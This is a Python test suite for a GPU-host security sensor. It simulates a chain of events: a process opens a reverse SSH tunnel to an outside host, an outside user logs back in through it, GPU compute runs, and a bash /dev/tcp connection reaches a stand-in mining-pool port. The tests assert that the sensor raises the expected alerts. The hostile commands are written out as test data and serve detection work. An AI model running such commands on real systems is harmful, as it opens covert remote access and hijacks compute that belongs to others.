"""The ROME chain with real OpenSSH in network namespaces, seen by the real probe.

An "agent" on gpuhost opens a reverse tunnel to the outside (ssh -fNR), then GPU compute is
acquired in the same scope: by the agent's own process tree (lineage), or by a shell that an
outside user opened back through the tunnel (tunnel taint: outside the agent's tree). The
same captures, analysed offline, raise the same critical alert with its chain. Negatives:
ssh -L, scp, and a training job's GPU compute outside any tunnel scope stay silent.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sensor import events as ev
from sensor.aggregator.aggregator import Aggregator
from sensor.aggregator.facts import TunnelFact
from sensor.capture import FrameWriter, StreamMeta
from sensor.fakegpu.session import fake_driver
from sensor.probe.probe import Probe
from sensor.probe.program import ProbeConfig
from sensor.rules.alert import Alert
from sensor.rules.loader import load_rules
from tests.kernel.conftest import Collector
from tests.scenario.conftest import OUTSIDE_IP, SSH, Network
from tests.waiting import wait_until

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures" / "gpu"
PYTHON = sys.executable


class Recorder:
    """The probe, feeding a live aggregator (built-in rules) and a capture file at once."""

    def __init__(self, capture: Path) -> None:
        self.capture = capture
        self.live = Collector(Aggregator(rules=load_rules([])))
        self._file = capture.open("wb")
        self._writer = FrameWriter(self._file, StreamMeta(config=ProbeConfig().to_dict()))
        self.probe = Probe(ProbeConfig(), self)

    def write_payloads(self, payloads: Iterable[bytes]) -> None:
        batch = list(payloads)
        self.live.write_payloads(batch)
        self._writer.write_payloads(batch)

    def alerts(self, rule_id: str | None = None) -> list[Alert]:
        with self.live.lock:
            return [a for o in self.live.observations for a in o.alerts if rule_id in (None, a.rule_id)]

    def facts(self, kind: type[Any]) -> list[Any]:
        with self.live.lock:
            return [f for o in self.live.observations for f in o.facts if isinstance(f, kind)]

    def stop(self) -> None:
        self.probe.stop()
        self._file.close()


@pytest.fixture
def recorder(network: Network, tmp_path: Path) -> Iterator[Recorder]:
    rec = Recorder(tmp_path / "rome.gscap")
    rec.probe.start()
    try:
        yield rec
    finally:
        if rec.probe.bpf is not None:
            rec.stop()


@pytest.fixture
def hopper(root: None) -> Iterator[Path]:
    """The fake driver, mounted before the network's sshds start: each runs in a mount
    namespace of its own (ip netns exec), copied from the host's when it starts."""
    with fake_driver("hopper") as driver_dir:
        yield driver_dir


@pytest.fixture
def ampere(root: None) -> Iterator[Path]:
    with fake_driver("ampere") as driver_dir:
        yield driver_dir


def replay_command(driver_dir: Path, fixture: str) -> str:
    """A shell command that replays a fixture's CUDA ioctls on the fake Hopper."""
    return (f"{PYTHON} -m sensor.fakegpu.isolate {driver_dir} -- {PYTHON} -m sensor.fakegpu.client "
            f"{FIXTURES / fixture}")


def analyze(capture: Path, *flags: str, prefix: tuple[str, ...] = ()) -> str:
    result = subprocess.run([*prefix, PYTHON, "-m", "sensor", "analyze", str(capture), *flags], capture_output=True,
                            text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout


def alert_key(alert: dict[str, Any]) -> tuple[Any, ...]:
    """What makes two alerts the same (an alert as the outward JSON has it): rule, scope, and
    each step's fact, kernel time and process."""
    return (alert["rule_id"], alert["severity"], alert["scope"], alert["scope_key"],
            tuple((s["fact"], s["detail"]["ts"], s["exec_id"]) for s in alert["steps"]))


def outward(alert: Alert) -> dict[str, Any]:
    """A live alert as analyze --json prints it."""
    from sensor.api.convert import Clock
    from sensor.api.convert import alert as convert_alert
    from sensor.outward import as_dict

    return as_dict(convert_alert(alert, Clock(0)))


def analysed_alerts(capture: Path, prefix: tuple[str, ...] = ()) -> list[tuple[Any, ...]]:
    lines = [json.loads(line) for line in analyze(capture, "--json", prefix=prefix).splitlines()]
    return [alert_key(line["alert"]) for line in lines if line["type"] == "alert"]


def unprivileged_copy(capture: Path) -> Path:
    """The capture where the agent's unprivileged user can read it."""
    agent = pwd.getpwnam("gpusentry")
    place = Path(tempfile.mkdtemp(prefix="gs-analyze-"))
    os.chown(place, agent.pw_uid, agent.pw_gid)
    copy = place / capture.name
    shutil.copy(capture, copy)
    os.chmod(copy, 0o644)
    return copy


AS_AGENT_USER = ("setpriv", "--reuid=gpusentry", "--regid=gpusentry", "--clear-groups")


def test_reverse_tunnel_then_gpu_compute_in_the_agents_tree(hopper: Path, network: Network,
                                                            recorder: Recorder) -> None:
    ssh = " ".join([SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}"])
    # a connect to the gateway, which is on gpuhost's own link: "lan" by its table, though its
    # address alone (a documentation range, as this VM's own uplink is) would say "egress"
    neighbour = "bash -c 'exec 3<>/dev/tcp/203.0.113.2/9' 2>/dev/null; true"
    agent = f"cd {ROOT} && {neighbour} && {ssh} && {replay_command(hopper, 'hopper-bringup.yaml')}"
    done = network.gpuhost.run("sh", "-c", agent)
    assert done.returncode == 0, done.stderr

    # the real ssh -R is classified as a reverse tunnel with its exact forward
    tunnel = wait_until(lambda: [t for t in recorder.facts(TunnelFact) if t.remote_host == OUTSIDE_IP],
                        what="the tunnel fact")[0]
    assert (tunnel.tool, tunnel.reverse, tunnel.directions, tunnel.remote_user, tunnel.forwards) == (
        "ssh", True, ("reverse",), "root", ("reverse 9000 -> localhost:22",))

    # classified with gpuhost's own routing table (its namespace): out through the gateway
    from sensor.aggregator.facts import ConnectFact, EgressFact

    ssh_connect = wait_until(lambda: [c for c in recorder.facts(ConnectFact) if c.address == OUTSIDE_IP],
                             what="ssh's connect")[0]
    assert (ssh_connect.port, ssh_connect.destination, ssh_connect.allowed) == (22, "egress", False)
    assert [e for e in recorder.facts(EgressFact) if e.address == OUTSIDE_IP and e.port == 22] != []

    alert = wait_until(lambda: recorder.alerts("reverse-tunnel-then-gpu-compute"), what="the critical alert")[0]
    assert (alert.severity, alert.scope) == ("critical", "lineage")
    assert [s.fact for s in alert.steps] == ["tunnel", "gpu_compute"]
    assert alert.steps[1].fields["klass"] == 0xCBC0 and alert.steps[1].fields["architecture"] == "Hopper"
    tunnel_proc = next(p for p in alert.processes if p.exec_id == alert.steps[0].exec_id)
    assert tunnel_proc.exe == SSH and "-fNR" in tunnel_proc.argv
    compute_proc = next(p for p in alert.processes if p.exec_id == alert.steps[1].exec_id)
    assert "sensor.fakegpu.client" in compute_proc.argv
    assert Path(str(compute_proc.ancestors[0]["exe"])).name == "sh"  # the agent's shell
    assert recorder.alerts("reverse-tunnel-opened") != []

    neighbour_connect = wait_until(lambda: [c for c in recorder.facts(ConnectFact) if c.address == "203.0.113.2"],
                                   what="the connect to the gateway")[0]
    assert (neighbour_connect.port, neighbour_connect.destination) == (9, "lan")

    recorder.stop()
    report = analyze(recorder.capture)
    assert "ALERT CRITICAL reverse-tunnel-then-gpu-compute: Reverse tunnel followed by GPU compute" in report
    assert "    1. " in report and "tunnel       pid=" in report and "gpu_compute  pid=" in report
    assert "ssh tunnel (reverse) to 198.51.100.1: reverse 9000 -> localhost:22" in report
    assert "GPU compute class 0xcbc0 (Hopper) on GPU 0" in report


def test_analysis_gives_the_live_alerts_wherever_it_runs(hopper: Path, network: Network,
                                                        recorder: Recorder) -> None:
    """The verdicts that need the host travel in the frames: with gpuhost's namespace gone,
    analysed as the unprivileged user and in a namespace with no routes at all, the capture
    gives exactly the alerts the live agent raised, and the connection verdicts it made."""
    ssh = " ".join([SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}"])
    neighbour = "bash -c 'exec 3<>/dev/tcp/203.0.113.2/9' 2>/dev/null; true"
    agent = f"cd {ROOT} && {neighbour} && {ssh} && {replay_command(hopper, 'hopper-bringup.yaml')}"
    assert network.gpuhost.run("sh", "-c", agent).returncode == 0
    wait_until(lambda: recorder.alerts("reverse-tunnel-then-gpu-compute"), what="the critical alert")
    recorder.stop()
    network.close()  # the namespace, its routes and its processes are gone
    live = [alert_key(outward(a)) for a in recorder.alerts()]
    assert {key[0] for key in live} >= {"reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute"}

    assert analysed_alerts(recorder.capture) == live
    copy = unprivileged_copy(recorder.capture)
    assert analysed_alerts(copy, AS_AGENT_USER) == live
    assert analysed_alerts(copy, ("unshare", "--net", *AS_AGENT_USER)) == live
    records = [json.loads(line) for line in analyze(copy, "--json", "--output", "events",
                                                    prefix=("unshare", "--net", *AS_AGENT_USER)).splitlines()]
    verdicts = {(r["fact"]["connect"]["address"], r["fact"]["connect"]["destination"]) for r in records
                if r["type"] == "fact" and r["fact"]["kind"] == "FACT_KIND_CONNECT"}
    assert {("203.0.113.2", "lan"), (OUTSIDE_IP, "egress")} <= verdicts


def test_gpu_compute_from_a_login_through_the_tunnel(hopper: Path, network: Network, recorder: Recorder) -> None:
    """The outside logs back in through the tunnel (ssh -p 9000 localhost on the outside host);
    gpuhost's sshd serves that connection in a new process tree, which the taint follows."""
    tunnel = network.gpuhost.run(SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}")
    assert tunnel.returncode == 0, tunnel.stderr
    back_in = network.outside.run(SSH, *network.ssh_options, "-p", "9000", "root@127.0.0.1",
                                  f"cd {ROOT} && {replay_command(hopper, 'compute-loop.yaml')}")
    assert back_in.returncode == 0, back_in.stderr

    alert = wait_until(lambda: recorder.alerts("reverse-tunnel-then-gpu-compute"), what="the critical alert")[0]
    assert alert.scope == "tunnel"
    compute_proc = next(p for p in alert.processes if p.exec_id == alert.steps[1].exec_id)
    tunnel_proc = next(p for p in alert.processes if p.exec_id == alert.steps[0].exec_id)
    assert alert.scope_key in compute_proc.tunnel_scopes
    # the login came in through sshd: not a descendant of the tunnel's process
    assert tunnel_proc.exec_id not in [a["exec_id"] for a in compute_proc.ancestors]
    assert any(str(a["exe"]).endswith("sshd") for a in compute_proc.ancestors)
    assert recorder.alerts("gpu-compute-in-tunnel-scope") != []
    taint = recorder.live.aggregator.detector.taint.stats  # type: ignore[union-attr]
    assert taint.matched >= 1 and taint.handed_over >= 1

    recorder.stop()
    report = analyze(recorder.capture)
    assert "ALERT CRITICAL reverse-tunnel-then-gpu-compute" in report and "[scope tunnel: tunnel:" in report


def test_a_reverse_tunnel_written_only_in_an_ssh_config_file(network: Network, recorder: Recorder,
                                                             tmp_path: Path) -> None:
    """`ssh -fN outside-gw`: the forward, the host and the user are in the -F file alone. The probe
    reads it at exec time; the tunnel fact and the alert are the argv spelling's, with evidence
    "config", and the capture carries what was read, so its analysis gives the same."""
    cfg = tmp_path / "ssh_config"
    cfg.write_text(f"Host outside-gw\n  HostName {OUTSIDE_IP}\n  User root\n  RemoteForward 9000 localhost:22\n")
    tunnel = network.gpuhost.run(SSH, "-F", str(cfg), *network.ssh_options, "-fN", "outside-gw")
    assert tunnel.returncode == 0, tunnel.stderr
    # the forward is real: the outside comes back in through it
    back_in = network.outside.run(SSH, *network.ssh_options, "-p", "9000", "root@127.0.0.1", "true")
    assert back_in.returncode == 0, back_in.stderr

    fact = wait_until(lambda: [t for t in recorder.facts(TunnelFact) if t.remote_host == OUTSIDE_IP],
                      what="the tunnel fact")[0]
    assert (fact.tool, fact.reverse, fact.evidence, fact.remote_user, fact.forwards, fact.via) == (
        "ssh", True, "config", "root", ("reverse 9000 -> localhost:22",), ())
    alert = wait_until(lambda: recorder.alerts("reverse-tunnel-opened"), what="the tunnel alert")[0]
    assert alert.severity == "high"
    assert (alert.steps[0].fields["evidence"], alert.steps[0].fields["forwards"]) == (
        "config", ["reverse 9000 -> localhost:22"])
    tunnel_proc = next(p for p in alert.processes if p.exec_id == alert.steps[0].exec_id)
    assert "-R" not in tunnel_proc.argv and "outside-gw" in tunnel_proc.argv

    recorder.stop()
    assert "ssh tunnel (reverse) to 198.51.100.1: reverse 9000 -> localhost:22" in analyze(recorder.capture)


def test_local_forward_scp_and_training_compute_stay_silent(hopper: Path, ampere: Path, network: Network,
                                                          recorder: Recorder, tmp_path: Path) -> None:
    ssh_l = " ".join([SSH, *network.ssh_options, "-fNL", "18080:localhost:22", f"root@{OUTSIDE_IP}"])
    agent = f"cd {ROOT} && {ssh_l} && {replay_command(hopper, 'hopper-bringup.yaml')}"
    assert network.gpuhost.run("sh", "-c", agent).returncode == 0
    payload = tmp_path / "weights.bin"
    payload.write_bytes(b"\0" * 4096)
    scp = network.gpuhost.run("scp", *network.ssh_options, str(payload), f"root@{OUTSIDE_IP}:/tmp/gs-weights.bin")
    assert scp.returncode == 0, scp.stderr
    training = network.gpuhost.run("sh", "-c", f"cd {ROOT} && {replay_command(ampere, 'training-job.yaml')}")
    assert training.returncode == 0, training.stderr

    # the local forward is seen, as a local tunnel, and the compute as compute ...
    wait_until(lambda: [t for t in recorder.facts(TunnelFact) if "local" in t.directions], what="the -L tunnel")
    from sensor.aggregator.facts import GpuCompute

    wait_until(lambda: len(recorder.facts(GpuCompute)) >= 3, what="three compute facts")
    # ... and nothing about tunnels or mining is raised
    raised = {a.rule_id for a in recorder.alerts()}
    assert raised & {"reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute", "gpu-compute-in-tunnel-scope",
                     "miner-pool-connection", "known-miner-binary"} == set()
    assert [t for t in recorder.facts(TunnelFact) if t.reverse] == []
    # scp ran ssh (in SFTP mode): an exec the sensor saw, and not a tunnel
    scp_ssh = [e for e in recorder.live.events(ev.Exec) if isinstance(e, ev.Exec) and e.filename == SSH.encode()
               and b"sftp" in e.argv]
    assert scp_ssh != []
    assert all(t.process.pid != e.tgid for t in recorder.facts(TunnelFact) for e in scp_ssh)


# -- the whole ROME run, as an operator sees it: one incident ---------------------------------

ROME_RULES = {"reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute", "miner-pool-connection",
              "reverse-tunnel-then-miner-egress", "gpu-compute-then-miner-egress"}


class ViewedAgent:
    """`gpusentry run` with its live view in a tmux pane, started as an operator starts it."""

    def __init__(self) -> None:
        from tests.kernel.test_agent import workdir

        self.tmp = workdir()
        self.sock = self.tmp / "api.sock"
        self.session = f"gs-view-{os.getpid()}"
        command = (f"cd {ROOT} && exec {PYTHON} -m sensor run --view --socket {self.sock} "
                   f"--journal {self.tmp}/journal.db 2>{self.tmp}/stderr")
        subprocess.run(["tmux", "new-session", "-d", "-s", self.session, "-x", "220", "-y", "60", command],
                       check=True)

    def screen(self) -> str:
        shown = subprocess.run(["tmux", "capture-pane", "-p", "-t", self.session], capture_output=True, text=True)
        return shown.stdout

    def gpusentry(self, *argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([PYTHON, "-m", "sensor", *argv, "--socket", str(self.sock)], capture_output=True,
                              text=True, cwd=ROOT, timeout=60)

    def stop(self) -> None:
        subprocess.run(["tmux", "send-keys", "-t", self.session, "C-c"], capture_output=True)
        wait_until(lambda: subprocess.run(["tmux", "has-session", "-t", self.session],
                                          capture_output=True).returncode != 0, timeout=30, what="the agent to stop")


@pytest.fixture
def viewed_agent(root: None) -> Iterator[ViewedAgent]:
    agent = ViewedAgent()
    try:
        wait_until(lambda: "incidents" in agent.screen() and "events" in agent.screen(), timeout=60,
                   what=f"the live view (agent stderr: {agent.tmp}/stderr)")
        yield agent
    finally:
        agent.stop()
        subprocess.run(["tmux", "kill-session", "-t", agent.session], capture_output=True)


def test_one_rome_run_is_one_incident_in_the_view_the_cli_and_the_api(hopper: Path, network: Network,
                                                                      viewed_agent: ViewedAgent) -> None:
    import grpc

    from sensor.api.client import sensor_stub
    from sensor.api.v1 import gpusentry_pb2 as pb

    channel = grpc.insecure_channel(f"unix:{viewed_agent.sock}")
    stream = sensor_stub(channel).Subscribe(pb.SubscribeRequest(alerts=True, incidents=True))
    received: list[pb.SubscribeResponse] = []

    def read() -> None:
        with contextlib.suppress(grpc.RpcError):
            for response in stream:
                received.append(response)

    threading.Thread(target=read, daemon=True).start()
    wait_until(lambda: any(r.WhichOneof("item") == "subscribed" for r in received), what="the subscription")

    # the agent (a shell on gpuhost): a reverse tunnel out, GPU compute, a miner's pool connection
    ssh = " ".join([SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}"])
    pool = f"bash -c 'exec 3<>/dev/tcp/{OUTSIDE_IP}/3333' 2>/dev/null; true"
    rome = f"cd {ROOT} && {ssh} && {replay_command(hopper, 'hopper-bringup.yaml')} && {pool}"
    done = network.gpuhost.run("sh", "-c", rome)
    assert done.returncode == 0, done.stderr

    def whole() -> list[pb.Incident]:
        return [r.incident for r in list(received) if r.WhichOneof("item") == "incident"
                and set(r.incident.rule_ids) >= ROME_RULES]

    incident = wait_until(whole, timeout=30, what="the incident with the five alerts")[-1]
    alerts = [r.alert for r in list(received) if r.WhichOneof("item") == "alert" and r.alert.rule_id in ROME_RULES]
    # the API stream: five alerts, one incident, and every alert says which
    assert sorted(a.rule_id for a in alerts) == sorted(ROME_RULES)
    assert {a.incident_id for a in alerts} == {incident.id}
    assert (incident.alerts_total, incident.severity) == (5, pb.SEVERITY_CRITICAL)
    assert sorted(a.id for a in incident.alerts) == sorted(a.id for a in alerts)
    assert [t.tunnel.remote_host for t in incident.tunnels] == [OUTSIDE_IP]
    assert [g.gpu_compute.architecture for g in incident.gpu_compute] == ["Hopper"]
    assert f"{OUTSIDE_IP}:3333" in incident.summary and "ssh -R" in incident.summary

    # the CLI: the same incident, one JSON object per line, valid against the published schema, and jq reads it
    listed = viewed_agent.gpusentry("incidents", "-o", "json")
    assert listed.returncode == 0, listed.stderr
    records = [json.loads(line) for line in listed.stdout.splitlines()]
    ours = [r for r in records if r["incident"]["id"] == incident.id]
    assert len(ours) == 1 and ours[0]["type"] == "incident"
    assert ours[0]["incident"]["alerts_total"] == "5"  # proto3 JSON: 64-bit integers are strings
    assert set(ours[0]["incident"]["rule_ids"]) == ROME_RULES
    from tests.unit.test_schema import schema_validator

    published = schema_validator()
    for record in records:
        published.validate(record)
    jq = subprocess.run(["jq", "-r", "select(.incident.id == \"" + incident.id + "\") | .incident.rule_ids[]"],
                        input=listed.stdout, capture_output=True, text=True, check=True)
    assert set(jq.stdout.split()) == ROME_RULES

    # the live view: the incident, first on the screen, with its five alerts
    row = wait_until(lambda: [line for line in viewed_agent.screen().splitlines() if incident.id[:8] in line],
                     timeout=15, what="the incident in the live view")[0]
    assert "CRITICAL" in row and f"{incident.id[:8]}  5 alerts: reverse-tunnel-opened" in row
    screen = viewed_agent.screen()
    lines = screen.splitlines()
    panels = [n for n, line in enumerate(lines) if line.startswith("╭") and " alerts " in line]
    assert panels, screen
    assert next(n for n, line in enumerate(lines) if incident.id[:8] in line) < panels[0], screen
    channel.close()
